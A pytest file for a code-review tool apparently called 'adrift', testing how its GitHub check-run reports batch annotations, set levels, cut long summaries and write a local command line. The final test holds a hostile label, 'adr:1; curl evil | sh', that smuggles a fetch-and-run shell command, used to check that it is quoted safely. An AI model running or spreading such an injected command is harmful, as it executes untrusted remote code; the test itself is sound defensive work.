"""What GitHub is given: within its limits, and nothing lost without a word."""

from dataclasses import replace

import pytest

from app.report.check_run import check_run_report, failure_report
from app.report.markdown import LONGEST_SUMMARY, summary
from checks import Finding, Level, Override, PolicyIssue, Side, Skipped, Status
from tests.report.findings import FINDING, NOTHING, numbered, review_of


@pytest.mark.parametrize(("count", "sizes"), [(0, []), (1, [1]), (50, [50]), (51, [50, 1]), (120, [50, 50, 20])])
def test_annotations_go_in_portions_of_fifty(count: int, sizes: list[int]) -> None:
    report = check_run_report(review_of(*numbered(count)))
    assert [len(portion) for portion in report.batches(sent=0)] == sizes


def test_annotations_that_are_there_are_not_sent_again() -> None:
    report = check_run_report(review_of(*numbered(120)))
    assert [portion[0]["start_line"] for portion in report.batches(sent=50)] == [51, 101]


def test_a_finding_of_the_whole_file_stands_on_its_first_line() -> None:
    (annotation,) = check_run_report(review_of(replace(FINDING, line=None))).annotations
    assert (annotation["start_line"], annotation["end_line"]) == (1, 1)


def test_a_finding_of_the_base_has_no_annotation() -> None:
    assert check_run_report(review_of(replace(FINDING, side=Side.LEFT))).annotations == ()


@pytest.mark.parametrize(
    ("finding", "level"),
    [
        (FINDING, "failure"),
        (replace(FINDING, level=Level.WARNING, status=Status.ADVICE), "warning"),
        (replace(FINDING, status=Status.OVERRIDDEN, override="adr:1"), "notice"),
    ],
)
def test_annotations_have_the_findings_level(finding: Finding, level: str) -> None:
    (annotation,) = check_run_report(review_of(finding)).annotations
    assert annotation["annotation_level"] == level


def test_policy_errors_are_annotations_at_their_lines() -> None:
    issue = PolicyIssue(".github/architecture.yml", 3, 5, "no such word")
    (annotation,) = check_run_report(replace(review_of(), policy_issues=(issue,))).annotations
    assert (annotation["path"], annotation["start_line"]) == (".github/architecture.yml", 3)


def test_a_summary_of_thousands_is_cut_and_says_so() -> None:
    text = summary(review_of(*numbered(2000)))
    assert len(text) <= LONGEST_SUMMARY
    assert "…cut" in text


def test_the_last_line_is_the_local_command() -> None:
    review = replace(review_of(*numbered(2000)), overrides=(Override("adr:12", None, accepted=False, reason="none"),))
    last = summary(review).splitlines()[-1]
    assert last == f"Locally: `adrift review --repo . --base {'b' * 40} --head {'a' * 40} --label adr:12`"


def test_skipped_files_and_labels_are_listed() -> None:
    review = replace(
        review_of(delta=replace(NOTHING, skipped=(Skipped("a.py", "not valid Python"),))),
        overrides=(Override("adr:9", None, accepted=False, reason="there is no decision record `9`"),),
    )
    assert "`a.py`: `not valid Python`" in summary(review)
    assert "`adr:9` refused" in summary(review)


def test_without_a_policy_it_says_how_to_start() -> None:
    assert "version: 1" in summary(replace(review_of(), has_policy=False))


def test_a_review_that_could_not_finish_is_a_failure() -> None:
    report = failure_report("GitHub did not answer")
    assert (report.conclusion, report.title) == ("failure", "adrift could not finish")
    assert "GitHub did not answer" in report.summary


def test_a_label_cannot_run_in_the_shell_that_the_command_is_copied_to() -> None:
    hostile = "adr:1; curl evil | sh"
    text = summary(replace(review_of(), overrides=(Override(hostile, None, accepted=False, reason="x"),)))
    assert text.splitlines()[-1].endswith("--label 'adr:1; curl evil | sh'`")
